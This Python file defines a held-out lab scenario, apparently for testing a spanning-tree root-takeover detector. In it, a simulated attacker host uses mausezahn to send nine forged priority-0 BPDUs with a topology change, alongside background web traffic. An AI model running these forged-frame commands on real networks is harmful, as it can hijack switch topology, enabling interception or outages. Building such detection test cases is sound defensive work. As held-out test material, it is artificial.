"""mausezahn sends the messages of a root with priority 0."""

from lab.range import Range
from lab.scenario import Scenario


def run(net: Range) -> None:
    core = net.core_switch()
    attacker = net.inside("attacker")
    net.everyday()
    net.loop(attacker, "curl -s -m 2 -o /dev/null http://10.20.0.10/", 1.6)
    net.quiet(6)
    with net.attack(
        "stp-root-takeover",
        by=attacker,
        attackers=[attacker.mac],
        victims=[core.mac],
        frames="ether dst 01:80:c2:00:00:00",
        responses=f"ether src {core.mac} and ether dst 01:80:c2:00:00:00",
    ):
        message = f"conf, flags=1, rootid=0:{attacker.mac}"  # with a change of topology
        net.tool(attacker, *f"mausezahn eth0 -q -a {attacker.mac} -c 9 -d 2s -t bpdu".split(), message)
    net.quiet(4)


SCENARIO = Scenario(
    name="stp-root-takeover-held-mausezahn",
    about="mausezahn says nine times, every two seconds, that its host is the root of a changed tree.",
    detectors=("stp-root-takeover",),
    tools={"mausezahn": "netsniff-ng"},
    held_out=True,
    run=run,
)
